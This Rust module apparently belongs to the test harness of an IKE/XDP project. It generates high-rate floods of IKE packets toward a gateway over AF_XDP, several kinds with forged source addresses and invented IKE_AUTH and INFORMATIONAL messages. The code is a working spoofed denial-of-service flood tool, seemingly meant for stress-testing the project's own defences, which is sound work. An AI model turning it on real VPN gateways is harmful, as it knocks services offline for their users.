//! Floods that need no answer: frames by AF_XDP, from addresses that are not the sender's own.

use std::{
    net::{IpAddr, Ipv4Addr},
    ops::Range,
};

use chacha20::{
    ChaCha8Rng,
    rand_core::{Rng, SeedableRng},
};
use ikexdp::{
    xdp::Interface,
    xsk::{Socket, Transfer},
};
use ikexdp_common::header::ike;
use ikexdp_proto::{
    types::{IKE_PORT, NAT_T_PORT, Spi},
    wire::iana::ExchangeType,
};

use super::{
    ATTACKER, Kind, Pace,
    message::{self, NONCE_LEN, Opening},
    template::Template,
};
use crate::{
    packet::Packet,
    udp::{PATIENCE, socket_here},
};

/// Sends floods of this kind until it is over.
pub(super) fn send(kind: Kind, gateway: IpAddr, pace: &mut Pace<'_>) {
    let interface = Interface::find("eth0").unwrap();
    let mut socket = Socket::open(&interface, 0, &[Transfer::Copy], PATIENCE).unwrap();
    // Takes what comes to the own address, so that the kernel sends no errors.
    let _sink = socket_here(ATTACKER.into(), IKE_PORT);
    let mut frames = Frames::new(kind, gateway);
    while let Some(due) = pace.next() {
        let mut sent = 0;
        for _ in 0..due {
            let octets = frames.draw();
            let Some(mut frame) = socket.allocate() else {
                break;
            };
            frame.resize(octets.len()).unwrap();
            frame.copy_from_slice(octets);
            if socket.send(frame).is_err() {
                break;
            }
            sent += 1;
        }
        socket.flush().unwrap();
        pace.count(sent);
    }
}

/// Draws frames.
struct Frames {
    /// Of these one is drawn, and its fields.
    templates: Vec<Template>,
    random: ChaCha8Rng,
}

impl Frames {
    fn new(kind: Kind, gateway: IpAddr) -> Self {
        let opening = match kind {
            Kind::Giant => Opening::giant(),
            _ => Opening::usual(),
        };
        let forged = |port, payload: Vec<u8>, fields: &[Range<usize>]| {
            let packet = Packet::new(Ipv4Addr::UNSPECIFIED.into(), gateway, port);
            Template::new(&packet.from_port(0).carrying(payload).build(), fields)
        };
        let spi_i = 0..8;
        let templates = match kind {
            Kind::Spoofed | Kind::Giant => {
                let payload = opening.write(Spi::ZERO, &[0; NONCE_LEN], None);
                let nonce = opening.nonce();
                vec![forged(IKE_PORT, payload, &[spi_i, nonce])]
            }
            Kind::Invented => {
                let nat = |payload| [vec![0; ike::MARKER_LEN], payload].concat();
                let spis = |from: usize| from..from + 16;
                [ExchangeType::IKE_AUTH, ExchangeType::INFORMATIONAL]
                    .into_iter()
                    .flat_map(|exchange| {
                        let payload = message::invented(exchange);
                        [
                            forged(IKE_PORT, payload.clone(), &[spis(0)]),
                            forged(NAT_T_PORT, nat(payload), &[spis(ike::MARKER_LEN)]),
                        ]
                    })
                    .collect()
            }
            Kind::Repeated | Kind::Proven => {
                let packet = Packet::new(ATTACKER.into(), gateway, IKE_PORT);
                let packet = packet.from_port(IKE_PORT);
                let packet = packet.carrying(opening.by_spi(Spi(7), None));
                vec![Template::fixed(packet.build())]
            }
        };
        Self {
            templates,
            random: ChaCha8Rng::seed_from_u64(8019),
        }
    }

    fn draw(&mut self) -> &[u8] {
        let place = self.random.next_u32() as usize % self.templates.len();
        self.templates[place].draw(&mut self.random)
    }
}
